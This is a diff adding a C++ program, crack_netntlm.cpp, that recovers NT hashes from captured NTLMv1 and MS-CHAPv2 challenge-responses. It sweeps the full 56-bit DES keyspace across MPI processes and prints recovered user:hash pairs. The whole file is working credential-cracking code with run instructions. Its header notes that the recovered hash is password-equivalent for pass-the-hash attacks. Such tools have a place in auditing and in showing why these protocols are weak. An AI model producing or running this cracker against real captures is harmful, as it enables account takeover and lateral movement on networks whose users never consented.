@@ -0,0 +1,379 @@
+/**
+ * @file crack_netntlm.cpp
+ * @brief Recovers NT hashes from captured NTLMv1 and MS-CHAPv2 challenge-responses.
+ *
+ * Both protocols answer an 8-byte challenge with three DES encryptions of it: the 16-byte
+ * NT hash, zero-padded to 21 bytes, is cut into three 7-byte keys, and every 7-byte key is
+ * exactly a 56-bit key index (des_keyspace.h). So:
+ *
+ * - The third key has only 16 unknown bits (the last two hash bytes, then five zeros) and is
+ *   found at once by trying all 65536 of them.
+ * - The first and second keys are two known-plaintext searches of the full 56-bit space.
+ *   They are run as one sweep: every key index is scheduled once, encrypts every distinct
+ *   challenge once, and the result is probed in a BlockHash of the response blocks of all
+ *   captures with that challenge, so both keys of every capture are found in a single pass.
+ *   The ranks exchange their hits every kSweepChunk keys through the crackers' shared loop
+ *   (crack.h) and stop once every key is found.
+ *
+ * The NT hash is password-equivalent (pass-the-hash) and cracking it needs no wordlist.
+ *
+ * The capture file holds one response per line, as
+ *
+ * - `user::domain:lm:nt:challenge` (NetNTLMv1 as printed by capture tools; hex fields, the
+ *   responses 24 bytes). If the LM response is an 8-byte client challenge followed by
+ *   zeros, the session used extended session security and the challenge DES encrypts is
+ *   the first 8 bytes of MD5(server challenge || client challenge).
+ * - `[user:]$NETNTLM$challenge$nt`.
+ * - `[user:]$MSCHAPv2$authenticator challenge$nt$peer challenge$user name`, the challenges
+ *   16 bytes; the challenge DES encrypts is the first 8 bytes of SHA-1(peer challenge ||
+ *   authenticator challenge || user name without its domain).
+ *
+ * Usage:
+ *
+ *     mpirun -np 4 ./crack_netntlm captures.txt                           # every key of 2^56
+ *     mpirun -np 4 ./crack_netntlm captures.txt --start 0 --count 1048576 # part of the space
+ *
+ * @note Compile using Open MPI, OpenMP and OpenSSL:
+ * mpic++ -fopenmp -O3 -march=native -o crack_netntlm crack_netntlm.cpp -lcrypto
+ *
+ * @date October 2024
+ */
+
+#include <iostream>
+#include <fstream>
+#include <cstring>
+#include <openssl/md5.h>
+#include <openssl/sha.h>
+#include <mpi.h>
+#include <omp.h>
+#include <algorithm>
+#include <memory>
+#include <string>
+#include <vector>
+
+#include "block_hash.h"
+#include "crack.h"
+#include "des_tables.h"
+
+/// Keys swept by every rank between two exchanges of the keys found.
+static const uint64_t kSweepChunk = 1ULL << 24;
+
+/**
+ * @brief A captured challenge-response.
+ */
+struct Capture {
+    std::string label;             ///< User name, or the line itself.
+    uint64_t challenge;            ///< The block DES encrypts.
+    uint64_t response[3];          ///< The three DES results.
+    int64_t key3 = -1;             ///< Last two NT hash bytes (third key index >> 40), or -1.
+};
+
+/**
+ * @brief The captures sharing one challenge.
+ */
+struct ChallengeGroup {
+    uint64_t challenge;
+    std::vector<uint32_t> targets;    ///< Target (2 x capture + key) of every response block, in BlockHash order.
+    std::unique_ptr<BlockHash> hash;  ///< First and second response blocks.
+    bool open = true;                 ///< Some key of the group is not found yet.
+};
+
+/**
+ * @brief Decodes a hex field of exactly `length` bytes.
+ */
+static bool decodeField(const std::string& hex, size_t length, std::vector<unsigned char>& out) {
+    return decodeHex(hex, out) && out.size() == length;
+}
+
+/**
+ * @brief Splits a string at every occurrence of `separator`.
+ */
+static std::vector<std::string> splitFields(const std::string& text, char separator) {
+    std::vector<std::string> fields;
+    for (size_t at = 0;;) {
+        size_t end = text.find(separator, at);
+        fields.push_back(text.substr(at, end - at));
+        if (end == std::string::npos) {
+            return fields;
+        }
+        at = end + 1;
+    }
+}
+
+/**
+ * @brief Parses one capture line.
+ *
+ * @return false If the line is in none of the accepted forms.
+ */
+static bool parseCapture(const std::string& line, Capture& capture) {
+    std::vector<unsigned char> challenge, response;
+    size_t dollar = line.find('$');
+    if (dollar != std::string::npos) {
+        capture.label = dollar > 0 ? line.substr(0, dollar - 1) : line;
+        std::vector<std::string> fields = splitFields(line.substr(dollar + 1), '$');
+        if (fields[0] == "NETNTLM" && fields.size() == 3) {
+            if (!decodeField(fields[1], 8, challenge) || !decodeField(fields[2], 24, response)) {
+                return false;
+            }
+        } else if (fields[0] == "MSCHAPv2" && fields.size() == 5) {
+            std::vector<unsigned char> authenticator, peer;
+            if (!decodeField(fields[1], 16, authenticator) || !decodeField(fields[2], 24, response) ||
+                !decodeField(fields[3], 16, peer)) {
+                return false;
+            }
+            std::string user = fields[4].substr(fields[4].find('\\') + 1);
+            std::vector<unsigned char> message(peer);
+            message.insert(message.end(), authenticator.begin(), authenticator.end());
+            message.insert(message.end(), user.begin(), user.end());
+            unsigned char digest[SHA_DIGEST_LENGTH];
+            SHA1(message.data(), message.size(), digest);
+            challenge.assign(digest, digest + 8);
+            if (dollar == 0) {
+                capture.label = fields[4];
+            }
+        } else {
+            return false;
+        }
+    } else {
+        std::vector<std::string> fields = splitFields(line, ':');
+        std::vector<unsigned char> lm;
+        if (fields.size() != 6 || !decodeField(fields[3], 24, lm) || !decodeField(fields[4], 24, response) ||
+            !decodeField(fields[5], 8, challenge)) {
+            return false;
+        }
+        capture.label = fields[2].empty() ? fields[0] : fields[2] + "\\" + fields[0];
+        if (std::all_of(lm.begin() + 8, lm.end(), [](unsigned char b) { return b == 0; })) {
+            // Extended session security: the LM field carries the client challenge
+            unsigned char message[16], digest[MD5_DIGEST_LENGTH];
+            memcpy(message, challenge.data(), 8);
+            memcpy(message + 8, lm.data(), 8);
+
+#pragma GCC diagnostic push
+#pragma GCC diagnostic ignored "-Wdeprecated-declarations"
+
+            MD5(message, sizeof(message), digest);
+
+#pragma GCC diagnostic pop  // Restore the previous warning settings
+            challenge.assign(digest, digest + 8);
+        }
+    }
+    capture.challenge = blockToWord(challenge.data());
+    for (int k = 0; k < 3; ++k) {
+        capture.response[k] = blockToWord(response.data() + 8 * k);
+    }
+    return true;
+}
+
+/**
+ * @brief Reads the capture file.
+ *
+ * @param error Set to a description of the problem on failure.
+ * @return true If every line holds a valid capture.
+ */
+static bool readCaptures(const std::string& path, std::vector<Capture>& captures, std::string& error) {
+    std::ifstream in(path);
+    if (!in) {
+        error = "Cannot read " + path;
+        return false;
+    }
+    std::string line;
+    for (int number = 1; std::getline(in, line); ++number) {
+        while (!line.empty() && (line.back() == '\r' || line.back() == ' ')) {
+            line.pop_back();
+        }
+        if (line.empty() || line[0] == '#') {
+            continue;
+        }
+        Capture capture;
+        if (!parseCapture(line, capture)) {
+            error = path + ":" + std::to_string(number) + ": not an NTLMv1 or MS-CHAPv2 response";
+            return false;
+        }
+        captures.push_back(capture);
+    }
+    if (captures.empty()) {
+        error = "No captures in " + path;
+        return false;
+    }
+    return true;
+}
+
+/**
+ * @brief Finds the third key of every capture by trying its 2^16 values.
+ *
+ * @return Number of captures whose third key was found.
+ */
+static size_t solveThirdKeys(std::vector<Capture>& captures) {
+    size_t solved = 0;
+    for (Capture& capture : captures) {
+        unsigned char challenge[8];
+        wordToBlock(capture.challenge, challenge);
+        for (uint64_t last = 0; last < (1 << 16) && capture.key3 < 0; ++last) {
+            if (encryptUnderIndex(last << 40, challenge) == capture.response[2]) {
+                capture.key3 = last;
+            }
+        }
+        solved += capture.key3 >= 0;
+    }
+    return solved;
+}
+
+/**
+ * @brief Groups the first and second response blocks of the captures by challenge.
+ */
+static std::vector<ChallengeGroup> groupByChallenge(const std::vector<Capture>& captures) {
+    std::vector<ChallengeGroup> groups;
+    std::vector<std::vector<uint64_t>> blocks;
+    for (uint32_t c = 0; c < captures.size(); ++c) {
+        size_t g = 0;
+        while (g < groups.size() && groups[g].challenge != captures[c].challenge) {
+            ++g;
+        }
+        if (g == groups.size()) {
+            groups.emplace_back();
+            groups[g].challenge = captures[c].challenge;
+            blocks.emplace_back();
+        }
+        for (uint32_t k = 0; k < 2; ++k) {
+            groups[g].targets.push_back(2 * c + k);
+            blocks[g].push_back(captures[c].response[k]);
+        }
+    }
+    for (size_t g = 0; g < groups.size(); ++g) {
+        groups[g].hash.reset(new BlockHash(blocks[g]));
+    }
+    return groups;
+}
+
+/**
+ * @brief Sweeps key indices [start, start + count) for the first and second keys of every
+ * capture. Collective over `comm`.
+ *
+ * @return Process exit status.
+ */
+static int sweep(MPI_Comm comm, std::vector<Capture>& captures, uint64_t start, uint64_t count) {
+    int numProcesses, processId;
+    MPI_Comm_size(comm, &numProcesses);
+    MPI_Comm_rank(comm, &processId);
+
+    size_t thirdKeys = solveThirdKeys(captures);
+    std::vector<ChallengeGroup> groups = groupByChallenge(captures);
+    if (processId == 0) {
+        std::cout << captures.size() << " captures, " << groups.size() << " distinct challenges; third key found for "
+                  << thirdKeys << std::endl;
+    }
+
+    size_t numTargets = 2 * captures.size();
+    auto test = [&](uint64_t index, DES_key_schedule& schedule, const std::vector<char>&, std::vector<uint32_t>& hits,
+                    uint64_t&) {
+        scheduleForIndex(index, schedule);
+        for (const ChallengeGroup& group : groups) {
+            if (!group.open) {
+                continue;
+            }
+            uint64_t block = cryptWord(schedule, group.challenge, DES_ENCRYPT);
+            for (uint32_t i = group.hash->find(block); i != BlockHash::kNone; i = group.hash->next(i)) {
+                hits.push_back(group.targets[i]);
+            }
+        }
+    };
+    // Stop encrypting the challenges whose captures have both keys
+    auto update = [&](const std::vector<char>& solved) {
+        for (ChallengeGroup& group : groups) {
+            group.open = false;
+            for (uint32_t t : group.targets) {
+                group.open = group.open || !solved[t];
+            }
+        }
+    };
+    CrackResult result = crackRange<DES_key_schedule>(comm, start, count, kSweepChunk, numTargets, test, update);
+
+    if (processId == 0) {
+        size_t complete = 0;
+        for (size_t c = 0; c < captures.size(); ++c) {
+            // The NT hash is the first key, the second key and the two bytes of the third
+            std::string hash;
+            for (int k = 0; k < 2; ++k) {
+                if (!result.solvedBy[2 * c + k]) {
+                    hash += std::string(14, '?');
+                    continue;
+                }
+                unsigned char block[8];
+                wordToBlock(result.solvedBy[2 * c + k] - 1, block);
+                hash += blockToHex(block).substr(2);
+            }
+            if (captures[c].key3 < 0) {
+                hash += "????";
+            } else {
+                unsigned char block[8];
+                wordToBlock(captures[c].key3, block);
+                hash += blockToHex(block).substr(12);
+            }
+            bool found = hash.find('?') == std::string::npos;
+            complete += found;
+            std::cout << captures[c].label << ":" << hash << (found ? "" : " (partial)") << std::endl;
+        }
+        std::cout << "Recovered " << complete << " of " << captures.size() << " NT hashes; swept " << result.tested
+                  << " keys in " << result.seconds << " s on " << numProcesses << " processes ("
+                  << result.tested / result.seconds << " keys/s)" << std::endl;
+    }
+    return 0;
+}
+
+static void printUsage(const char* program) {
+    std::cerr << "Usage: mpirun -np <n> " << program << " <capture file> [--start <hex key index>] [--count <n>]"
+              << " [--threads <n>]\n"
+              << "Defaults: the whole key space (--start 0 --count 2^56), --threads 4" << std::endl;
+}
+
+int main(int argc, char* argv[]) {
+    MPI_Init(&argc, &argv);
+    MPI_Comm comm = MPI_COMM_WORLD;
+    int processId;
+    MPI_Comm_rank(comm, &processId);
+
+    uint64_t start = 0, count = 1ULL << kDesKeyBits;
+    int threads = 4;
+    bool valid = argc > 1;
+    for (int i = 2; i < argc && valid; i += 2) {
+        std::string arg = argv[i];
+        if (i + 1 >= argc) {
+            valid = false;
+            break;
+        }
+        std::string value = argv[i + 1];
+        if (arg == "--start") {
+            start = std::strtoull(value.c_str(), nullptr, 16);
+        } else if (arg == "--count") {
+            count = std::strtoull(value.c_str(), nullptr, 10);
+        } else if (arg == "--threads") {
+            threads = std::atoi(value.c_str());
+        } else {
+            valid = false;
+        }
+    }
+    if (!valid || threads <= 0 || count == 0 || start >= 1ULL << kDesKeyBits ||
+        count > (1ULL << kDesKeyBits) - start) {
+        if (processId == 0) {
+            printUsage(argv[0]);
+        }
+        MPI_Finalize();
+        return 1;
+    }
+
+    // Every process reads the captures (from a shared file system)
+    std::string error;
+    std::vector<Capture> captures;
+    if (!readCaptures(argv[1], captures, error)) {
+        if (processId == 0) {
+            std::cerr << error << std::endl;
+        }
+        MPI_Finalize();
+        return 1;
+    }
+
+    omp_set_num_threads(threads);
+    int status = sweep(comm, captures, start, count);
+    MPI_Finalize();
+    return status;
+}